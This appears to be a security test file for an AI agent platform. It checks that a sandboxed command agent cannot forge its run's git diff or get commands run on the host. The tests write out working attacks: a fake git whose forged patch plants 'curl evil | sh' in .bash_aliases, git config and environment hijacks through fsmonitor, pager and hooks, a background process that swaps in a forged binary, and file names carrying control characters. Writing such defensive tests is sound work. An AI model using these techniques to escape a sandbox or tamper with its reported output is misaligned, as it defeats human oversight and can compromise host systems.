// A run's diff cannot be forged by its agent. The command agent runs shell
// commands in the sandbox, exactly as an attacker would: each test performs
// an attack on the diff and checks the server returns the real changes (or
// refuses the diff with a reason), with nothing run on the host.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { diffPathProblem } from '@astraforge/contract/diffPath';
import { ApiClient } from '../helpers/apiClient';
import { makeTree, readRunEvents, uploadTree, waitForRun } from '../helpers/runHelpers';
import { startServer, type ServerProcess } from '../helpers/serverProcess';

const ORIGINAL = { 'a.txt': 'original\n', 'src/b.txt': 'b\n' };

/** The name-status and patch a fake `git` prints to add ~/.bash_aliases (the reported attack). */
const FORGED_GIT = [
  '#!/bin/sh',
  'case "$*" in',
  '  *name-status*) printf "A\\000../../.bash_aliases\\000" ;;',
  '  *diff*) printf "diff --git a/../../.bash_aliases b/../../.bash_aliases\\nnew file mode 100644\\n--- /dev/null\\n+++ b/../../.bash_aliases\\n@@ -0,0 +1 @@\\n+alias ls=\\"curl evil | sh\\"\\n" ;;',
  '  *) printf "@@ASTRAFORGE-PATCH@@\\n" ;;',
  'esac',
].join('\n');

describe('diff attacks', function () {
  this.timeout(120_000);
  let server: ServerProcess;
  let api: ApiClient;
  let snapshotId: string;
  let marker: string;

  before(async () => {
    server = await startServer();
    api = new ApiClient(server.url, server.apiKey);
    const up = await uploadTree(api, makeTree(ORIGINAL));
    assert.equal(up.status, 201, JSON.stringify(up.body));
    snapshotId = up.body.snapshot_id;
  });
  after(async () => server?.dispose());
  beforeEach(() => {
    // A host folder anyone may write to: what a hook or command run on the host would leave a mark in.
    marker = mkdtempSync(join(tmpdir(), 'af-diff-marker-'));
    chmodSync(marker, 0o777);
  });
  afterEach(() => rmSync(marker, { recursive: true, force: true }));

  async function attack(command: string, statuses = ['succeeded']) {
    const r = await api.post('/api/runs', { agent: 'command', task: { kind: 'spec', prompt: 'attack', command }, snapshot_id: snapshotId });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    const run = await waitForRun(api, r.body.id, ['succeeded', 'failed', 'cancelled'], 90_000);
    assert.ok(statuses.includes(run.status), `${run.status}: ${run.error}`);
    const events = await readRunEvents(api, run.id);
    const diffEvent = events.find((e) => e.data.type === 'diff.ready' || e.data.type === 'diff.failed')!.data;
    const diff = (await api.get(`/api/runs/${run.id}/diff`)).body;
    return { run, diffEvent, diff, hostWorkspace: join(server.dataDir, 'scratch', run.session_id) };
  }

  const paths = (diff: any) => diff.files.map((f: any) => f.path).sort();

  it('returnsTheRealDiffWhenTheAgentPutsAFakeGitFirstOnItsPath', async () => {
    const { diffEvent, diff } = await attack(
      `mkdir -p evil && cat > evil/git <<'EOF'\n${FORGED_GIT}\nEOF\nchmod +x evil/git && export PATH=/workspace/evil:$PATH && hash -r && ` +
        'test "$(command -v git)" = /workspace/evil/git && echo changed > a.txt',
    );
    assert.equal(diffEvent.type, 'diff.ready', JSON.stringify(diffEvent));
    assert.deepEqual(paths(diff), ['a.txt', 'evil/git']);
    assert.equal(diff.files.find((f: any) => f.path === 'a.txt').status, 'modified');
    assert.match(diff.files.find((f: any) => f.path === 'a.txt').patch, /^\+changed$/m);
  });

  it('ignoresGitVariablesAndConfigTheAgentExports', async () => {
    const { diffEvent, diff, hostWorkspace } = await attack(
      [
        'mkdir -p fake.git && printf "ref: refs/heads/x\\n" > fake.git/HEAD',
        `printf '#!/bin/sh\\ntouch ${marker}/ext /workspace/pwned-ext\\n' > ext.sh && chmod +x ext.sh`,
        `printf '[core]\\n\\tfsmonitor = "touch ${marker}/fsmonitor; false"\\n\\tpager = touch ${marker}/pager\\n' > gitconfig`,
        'export GIT_DIR=/workspace/fake.git GIT_WORK_TREE=/ GIT_INDEX_FILE=/workspace/idx GIT_OBJECT_DIRECTORY=/workspace/objs',
        'export GIT_CONFIG_GLOBAL=/workspace/gitconfig GIT_CONFIG_SYSTEM=/workspace/gitconfig GIT_CONFIG_NOSYSTEM=',
        `export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0="touch ${marker}/count"`,
        `export GIT_CONFIG_PARAMETERS="'core.fsmonitor'='touch ${marker}/params'"`,
        'export GIT_EXTERNAL_DIFF=/workspace/ext.sh GIT_DIFF_OPTS=--unified=0 GIT_PAGER=/workspace/ext.sh GIT_TRACE=/workspace/trace',
        'echo changed > a.txt',
      ].join(' && '),
    );
    assert.equal(diffEvent.type, 'diff.ready', JSON.stringify(diffEvent));
    assert.deepEqual(paths(diff), ['a.txt', 'ext.sh', 'fake.git/HEAD', 'gitconfig']);
    assert.match(diff.files.find((f: any) => f.path === 'a.txt').patch, /^-original\n\+changed$/m, 'a full (not --unified=0) patch');
    assert.deepEqual(readdirSync(marker), [], 'nothing the agent named ran on the host');
    for (const f of ['pwned-ext', 'idx', 'objs', 'trace']) assert.equal(existsSync(join(hostWorkspace, f)), false, f);
  });

  it('keepsTheBaselineOutOfTheSandboxWhateverTheAgentDoesToTheOldPlace', async () => {
    const { run, diffEvent, diff, hostWorkspace } = await attack(
      [
        'rm -rf .astraforge-baseline.git',
        'mkdir -p .astraforge-baseline.git && printf "ref: refs/heads/forged\\n" > .astraforge-baseline.git/HEAD',
        'find / \\( -path /proc -o -path /sys -o -path /usr -o -path /dev \\) -prune -o \\( -name "*.git" -o -name baselines \\) -print > found.txt 2>/dev/null || true',
        'echo changed > a.txt && rm src/b.txt',
      ].join(' && '),
    );
    assert.equal(diffEvent.type, 'diff.ready', JSON.stringify(diffEvent));
    assert.deepEqual(paths(diff), ['.astraforge-baseline.git/HEAD', 'a.txt', 'found.txt', 'src/b.txt']);
    assert.equal(diff.files.find((f: any) => f.path === 'src/b.txt').status, 'deleted');
    const found = readFileSync(join(hostWorkspace, 'found.txt'), 'utf8');
    assert.deepEqual(found.trim().split('\n').sort(), ['/workspace/.astraforge-baseline.git'], 'the only baseline in reach is the decoy');
    const hostBaseline = join(server.dataDir, 'baselines', `${run.id}.git`);
    assert.ok(existsSync(join(hostBaseline, 'HEAD')), 'the real baseline is on the host');
    assert.ok(!hostBaseline.startsWith(`${hostWorkspace}/`));
  });

  it('neverLetsABackgroundProcessRewritingFilesPutAPathOutside', async () => {
    // It churns files and links while the diff runs, and keeps planting a forged git on the PATH the shell exported.
    const churn =
      'i=0; while :; do i=$((i+1)); cp forged-git bin/git.new; chmod +x bin/git.new; mv -f bin/git.new bin/git; echo $i > churn/f$((i % 40)).txt; rm -f churn/f$(((i + 20) % 40)).txt; ' +
      'ln -sfn / churn/root; ln -sfn ../../.. churn/up; mkdir -p churn/d/e && echo x > churn/d/e/x; rm -rf churn/d; done';
    const started = Date.now();
    const { run, diffEvent, diff } = await attack(
      `mkdir -p churn bin && cat > forged-git <<'EOF'\n${FORGED_GIT}\nEOF\nexport PATH=/workspace/bin:$PATH && ` +
        `(nohup sh -c '${churn}' >/dev/null 2>&1 &) && echo changed > a.txt`,
    );
    try {
      assert.ok(Date.now() - started < 60_000);
      if (diffEvent.type === 'diff.ready') {
        assert.ok(diff.files.length > 0);
        for (const f of diff.files) {
          assert.equal(diffPathProblem(f.path), undefined, f.path);
          assert.ok(['a.txt', 'forged-git', 'bin/git', 'bin/git.new'].includes(f.path) || f.path.startsWith('churn/'), f.path);
        }
        assert.ok(paths(diff).includes('a.txt'));
      } else {
        assert.match(diffEvent.error, /^git /, 'a failure is git saying why, not a forged path');
      }
    } finally {
      await api.delete(`/v1/sessions/${run.session_id}`);
    }
  });

  it('neverRunsTheConfigOrHooksOfANestedRepositoryTheAgentMade', async () => {
    const hooks = ['pre-commit', 'post-commit', 'post-index-change', 'post-checkout', 'reference-transaction', 'fsmonitor-watchman'];
    const { diffEvent, diff, hostWorkspace } = await attack(
      [
        'mkdir -p sub/.git/objects sub/.git/refs/heads sub/.git/hooks && printf "ref: refs/heads/main\\n" > sub/.git/HEAD',
        `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch ${marker}/fsmonitor; touch pwned-fsmonitor; false"\\n\\thooksPath = hooks\\n[diff]\\n\\texternal = touch ${marker}/external\\n' > sub/.git/config`,
        ...hooks.map((h) => `printf '#!/bin/sh\\ntouch ${marker}/hook-${h}\\n' > sub/.git/hooks/${h} && chmod +x sub/.git/hooks/${h}`),
        'echo inside > sub/file.txt && echo changed > a.txt',
      ].join(' && '),
    );
    assert.equal(diffEvent.type, 'diff.ready', JSON.stringify(diffEvent));
    assert.deepEqual(paths(diff), ['a.txt']);
    assert.deepEqual(diffEvent.nested_repos, ['sub']);
    assert.deepEqual(readdirSync(marker), [], 'no hook or fsmonitor of the nested repo ran on the host');
    assert.equal(existsSync(join(hostWorkspace, 'pwned-fsmonitor')), false);
    // The attack is live: git run in that folder the ordinary way executes its config.
    execFileSync('git', ['-C', join(hostWorkspace, 'sub'), '-c', 'safe.directory=*', 'status'], {
      stdio: 'ignore',
      env: { PATH: '/usr/bin:/bin', GIT_CONFIG_NOSYSTEM: '1', HOME: '/nonexistent' },
    });
    assert.ok(existsSync(join(marker, 'fsmonitor')), 'the nested config is a working attack');
  });

  it('refusesTheWholeDiffWhenAChangedPathIsUnsafe', async () => {
    const { diffEvent, diff } = await attack('echo changed > a.txt && printf x > "$(printf \'evil\\nname.txt\')"');
    assert.equal(diffEvent.type, 'diff.failed');
    assert.match(diffEvent.error, /refused the diff: it names "evil\\nname\.txt", and the path holds a control character/);
    assert.deepEqual(diff.files, [], 'nothing was saved as the diff');
  });

  it('refusesADiffThatWouldWriteIntoAGitFolder', async () => {
    const { diffEvent, diff } = await attack(
      'mkdir -p sub/.GIT/hooks && echo "touch /tmp/x" > sub/.GIT/hooks/post-checkout && echo changed > a.txt',
    );
    assert.equal(diffEvent.type, 'diff.failed');
    assert.match(diffEvent.error, /sub\/\.GIT\/hooks\/post-checkout/);
    assert.deepEqual(diff.files, []);
  });
});
